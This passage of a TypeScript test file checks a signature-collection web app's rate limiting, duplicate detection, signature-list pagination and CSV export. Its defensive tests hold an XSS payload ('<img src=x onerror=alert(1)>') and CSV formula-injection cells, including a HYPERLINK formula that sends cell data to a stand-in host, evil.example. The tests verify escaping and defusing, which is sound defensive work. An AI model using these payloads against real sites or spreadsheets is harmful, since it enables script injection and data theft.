    expect((await signForm(viaPeer(t.app, "2001:db8:1:2:ffff:1234:5678:9abc"), { name: "Two" })).status).toBe(429);
    tokenFrom(await signForm(viaPeer(t.app, "2001:db8:1:3::1"), { name: "Three" }));
    tokenFrom(await signForm(viaPeer(t.app, "203.0.113.9"), { name: "Four" }));
    expect((await signForm(viaPeer(t.app, "::ffff:203.0.113.9"), { name: "Five" })).status).toBe(429);
    const wider = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m", IPV6_PREFIX_LENGTH: "48" });
    tokenFrom(await signForm(viaPeer(wider.app, "2001:db8:1:2::1"), { name: "One" }));
    expect((await signForm(viaPeer(wider.app, "2001:db8:1:3::1"), { name: "Two" })).status).toBe(429);
  });
});

describe("signing: duplicates", () => {
  it.each([
    ["the same address", "ada.king@gmail.com"],
    ["a differently cased address", "ADA.KING@GMAIL.COM"],
    ["a +tag", "ada.king+declarations@gmail.com"],
    ["Gmail dots", "a.d.a.k.i.n.g@gmail.com"],
    ["googlemail.com", "adaking@googlemail.com"],
  ])("counts %s once, politely", async (_, second) => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { name: "Ada King", email: "ada.king@gmail.com" }));
    const res = await signForm(t.app, { name: "Someone Else", email: second });
    expect(res.status).toBe(200);
    const text = pageText(await res.text());
    expect(text).toContain("You have already signed");
    expect(text).toContain("This email address has already signed this Declaration; it is counted once.");
    // This site sends no mail, so it does not claim to have sent any.
    expect(text).not.toContain("mailed");
    expectNothingStored(t, 1);
    expect(signatureRows(t.db)[0]!.name).toBe("Ada King");
  });

  it("counts concurrent signings with one address once", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const results = await Promise.all(
      ["ada@example.org", "ADA@example.org", "ada+1@example.org", "ada+2@Example.org", "Ada@EXAMPLE.org"].map(
        (email, i) => signForm(t.app, { name: `Racer ${i}`, email }, { csrf: pair }),
      ),
    );
    expect(results.map((r) => r.status).sort()).toEqual([200, 200, 200, 200, 303]);
    expectNothingStored(t, 1);
  });

  it("treats other providers' dots and tags as they are", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { email: "ada.king@example.org" }));
    tokenFrom(await signForm(t.app, { email: "adaking@example.org" }));
    expect(storedCount(t.db)).toBe(2);
  });

  it("lets the same address sign another Declaration, and sign again after withdrawing", async () => {
    const t = await setup();
    addDeclaration(t.db, { slug: "other" });
    const token = tokenFrom(await signForm(t.app, { email: "ada@example.org" }));
    tokenFrom(await signForm(t.app, { email: "ada@example.org" }, { slug: "other" }));
    withdrawSignature(t.db, hashToken(token), new Date());
    tokenFrom(await signForm(t.app, { email: "ada@example.org" }));
    expect([storedCount(t.db), storedCount(t.db, "other")]).toEqual([1, 1]);
  });

  it("counts the same name from the same client within DUPLICATE_WINDOW once", async () => {
    const t = await setup({ DUPLICATE_WINDOW: "1h" });
    tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
    const res = await signForm(t.app, { name: "  ADA   lovelace " });
    expect(res.status).toBe(200);
    const text = pageText(await res.text());
    expect(text).toContain("You have already signed");
    expect(text).toContain(
      "“ADA lovelace” has just signed this Declaration from your connection. Each person is counted once.",
    );
    expectNothingStored(t, 1);
    // Another name, or the same name on another Declaration, is fine.
    tokenFrom(await signForm(t.app, { name: "Charles Babbage" }));
    addDeclaration(t.db, { slug: "other" });
    tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }, { slug: "other" }));
    expect(storedCount(t.db)).toBe(2);
  });

  it("forgets the name after DUPLICATE_WINDOW", async () => {
    const t = await setup({ DUPLICATE_WINDOW: "1h" });
    vi.useFakeTimers({ toFake: ["Date"] });
    vi.setSystemTime(new Date("2026-05-01T10:00:00Z"));
    tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
    vi.setSystemTime(new Date("2026-05-01T10:59:00Z"));
    expect(pageText(await (await signForm(t.app, { name: "Ada Lovelace" })).text())).toContain(
      "You have already signed",
    );
    vi.setSystemTime(new Date("2026-05-01T11:00:01Z"));
    tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
    expect(storedCount(t.db)).toBe(2);
  });

  it("does not treat two clients with the same name as one person (TRUST_PROXY)", async () => {
    const t = await setup({ DUPLICATE_WINDOW: "1h", TRUST_PROXY: "loopback" });
    tokenFrom(await signForm(fromClient(t.app, "203.0.113.1"), { name: "John Smith" }));
    tokenFrom(await signForm(fromClient(t.app, "203.0.113.2"), { name: "John Smith" }));
    expect(pageText(await (await signForm(fromClient(t.app, "203.0.113.2"), { name: "John Smith" })).text())).toContain(
      "You have already signed",
    );
    expect(storedCount(t.db)).toBe(2);
  });

  it("signs the same name again right after that signature was withdrawn", async () => {
    const t = await setup({ DUPLICATE_WINDOW: "1h" });
    const token = tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
    const pair = await csrfFrom(t.app, `/s/${token}/withdraw`);
    expect((await postForm(t.app, `/s/${token}/withdraw`, { confirm: "yes" }, { csrf: pair })).status).toBe(303);
    expect(storedCount(t.db)).toBe(0);
    tokenFrom(await signForm(t.app, { name: "Ada Lovelace", visibility: "count" }));
    expect(storedCount(t.db)).toBe(1);
  });

  it("counts two signatures with the same name when DUPLICATE_WINDOW is 0s", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { name: "John Smith" }));
    tokenFrom(await signForm(t.app, { name: "John Smith" }));
    expect(storedCount(t.db)).toBe(2);
  });
});

describe("the list of signatures", () => {
  function olderLink(html: string): string | undefined {
    return tags(html, "a").find((a) => a.rel === "next")?.href;
  }

  it("walks 120 signatures newest first, 50 per page, without duplicates or gaps", async () => {
    const t = await setup();
    const expected: string[] = [];
    for (let i = 1; i <= 120; i++) {
      addSignature(t.db, t.declaration, { name: `Signer ${i}` });
      expected.unshift(`Signer ${i}`);
      // Not listed, interleaved so that ids have gaps.
      if (i % 7 === 0) addSignature(t.db, t.declaration, { name: `Counted only ${i}`, public: false });
      if (i % 11 === 0) {
        const gone = addSignature(t.db, t.declaration, { name: `Withdrawn ${i}` });
        withdrawSignature(t.db, gone.tokenHash, new Date());
      }
    }
    const seen: string[] = [];
    const sizes: number[] = [];
    let path: string | undefined = "/d/test-declaration/signatures";
    while (path != null) {
      const res = await t.app.request(path);
      expect(res.status).toBe(200);
      const html = await res.text();
      const names = listedNames(html);
      sizes.push(names.length);
      seen.push(...names);
      path = olderLink(html);
      expect(path == null || /^\/d\/test-declaration\/signatures\?before=\d+$/.test(path)).toBe(true);
    }
    expect(sizes).toEqual([50, 50, 20]);
    expect(seen).toEqual(expected);
    expect(new Set(seen).size).toBe(120);
  });

  it("shows the count, links back to the newest page, and ends politely", async () => {
    const t = await setup();
    const rows = Array.from({ length: 3 }, (_, i) => addSignature(t.db, t.declaration, { name: `S${i}` }));
    const first = await (await t.app.request("/d/test-declaration/signatures")).text();
    expect(pageText(first)).toContain("3 signatures");
    expect(olderLink(first)).toBeUndefined();
    const end = await (await t.app.request(`/d/test-declaration/signatures?before=${rows[0]!.id}`)).text();
    expect(listedNames(end)).toEqual([]);
    expect(pageText(end)).toContain("No more signatures.");
    expect(tags(end, "a").some((a) => a.href === "/d/test-declaration/signatures")).toBe(true);
    const middle = await (await t.app.request(`/d/test-declaration/signatures?before=${rows[2]!.id}`)).text();
    expect(listedNames(middle)).toEqual(["S1", "S0"]);
  });

  it("says when there are no public signatures yet", async () => {
    const t = await setup();
    addSignature(t.db, t.declaration, { public: false });
    const html = await (await t.app.request("/d/test-declaration/signatures")).text();
    expect(pageText(html)).toContain("No public signatures yet.");
    expect(pageText(html)).toContain("1 signature");
  });

  it.each(["abc", "0", "-1", "1.5", "1e3", "01", "99999999999999999", "%20"])(
    "answers 404 for the cursor %s",
    async (cursor) => {
      const t = await setup();
      addSignature(t.db, t.declaration);
      const res = await t.app.request(`/d/test-declaration/signatures?before=${cursor}`);
      expect(res.status).toBe(404);
      expect(await res.text()).toContain("This page of signatures does not exist.");
    },
  );

  it("answers 404 for an unknown Declaration", async () => {
    const t = await setup();
    expect((await t.app.request("/d/nope/signatures")).status).toBe(404);
    expect((await t.app.request("/d/nope/signatures.csv")).status).toBe(404);
  });

  it("shows which version each signer signed", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { name: "Version One Signer" }));
    revise(t);
    tokenFrom(await signForm(t.app, { name: "Version Two Signer", revision: "2" }));
    const html = await (await t.app.request("/d/test-declaration/signatures")).text();
    const items = [...html.matchAll(/<li>([\s\S]*?)<\/li>/g)]
      .map((m) => pageText(m[1]!))
      .filter((s) => s.includes("Signer"));
    expect(items).toHaveLength(2);
    expect(items[0]).toMatch(/^Version Two Signer .* · version 2$/);
    expect(items[1]).toMatch(/^Version One Signer .* · version 1$/);
  });

  it("links websites with rel=nofollow ugc and escapes everything", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, { name: "<img src=x onerror=alert(1)>", website: "example.org", comment: "<b>bold</b>" }),
    );
    const html = await (await t.app.request("/d/test-declaration/signatures")).text();
    expect(html).not.toContain("<img src=x");
    expect(html).not.toContain("<b>bold</b>");
    expect(listedNames(html)).toEqual(["<img src=x onerror=alert(1)>"]);
    expect(tags(html, "a").find((a) => a.href === "https://example.org/")).toMatchObject({
      rel: "nofollow ugc noopener noreferrer",
    });
  });
});

describe("the CSV export", () => {
  async function csv(t: Setup) {
    const res = await t.app.request("/d/test-declaration/signatures.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="test-declaration-signatures.csv"');
    // Response.text() would drop the byte order mark; keep it to check it is there.
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
    expect(text.startsWith("\uFEFFname,place,website,comment,version,signed_at\r\n")).toBe(true);
    return { text, rows: parseCsv(text.slice(1)) };
  }

  it("has only a header when nobody signed publicly", async () => {
    const t = await setup();
    addSignature(t.db, t.declaration, { public: false });
    const { text } = await csv(t);
    expect(text).toBe("\uFEFFname,place,website,comment,version,signed_at\r\n");
  });

  it("quotes commas, quotes and line breaks", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, {
        name: 'Smith, Jane "JJ"',
        place: "Paris, France",
        comment: 'First line\nSecond, "quoted" line',
      }),
    );
    const { rows, text } = await csv(t);
    expect(text).toContain('"Smith, Jane ""JJ""","Paris, France",,"First line\nSecond, ""quoted"" line",1,');
    const [row] = signatureRows(t.db);
    expect(rows).toEqual([
      ["name", "place", "website", "comment", "version", "signed_at"],
      ['Smith, Jane "JJ"', "Paris, France", "", 'First line\nSecond, "quoted" line', "1", row!.created.toISOString()],
    ]);
  });

  it("defuses cells a spreadsheet would run as formulas", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, { name: "+1", place: "=1+1", comment: '=HYPERLINK("https://evil.example/?"&A1,"Click")' }),
    );
    tokenFrom(await signForm(t.app, { name: "-1", place: "@SUM(A1:A9)", comment: "-2+3" }));
    tokenFrom(await signForm(t.app, { name: "@x", place: "Normal place", comment: "+ also" }));
    const { rows } = await csv(t);
    expect(rows.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ["'@x", "Normal place", "", "'+ also"],
      ["'-1", "'@SUM(A1:A9)", "", "'-2+3"],
      ["'+1", "'=1+1", "", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ]);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("exports only public confirmed signatures", async () => {
    const t = await setup();
    addSignature(t.db, t.declaration, { name: "Public One", website: "https://one.example/" });
    addSignature(t.db, t.declaration, { name: "Counted Only", public: false });
    addSignature(t.db, t.declaration, {
      name: "Still Pending",
      confirmation: { tokenHash: "pending-confirm", expires: new Date(Date.now() + 3_600_000) },
    });
    const gone = addSignature(t.db, t.declaration, { name: "Withdrawn One" });
    withdrawSignature(t.db, gone.tokenHash, new Date());
    addDeclaration(t.db, { slug: "other" });
    addSignature(t.db, current(t, "other"), { name: "Other Declaration" });
    addSignature(t.db, t.declaration, { name: "Public Two", email: "two@example.org", emailHash: "h2" });
    const { rows, text } = await csv(t);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["Public Two", "Public One"]);
    expect(text).not.toContain("two@example.org");
    expect(rows[2]![2]).toBe("https://one.example/");
  });

  it("streams thousands of rows without duplicates", async () => {
    const t = await setup();
    const insert = t.db.$client.transaction(() => {
      for (let i = 0; i < 2500; i++) addSignature(t.db, t.declaration, { name: `Bulk ${i}` });
    });
    insert();
    const { rows } = await csv(t);
    expect(rows).toHaveLength(2501);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(2500);
    expect(rows[1]![0]).toBe("Bulk 2499");
    expect(rows.at(-1)![0]).toBe("Bulk 0");
  });
});
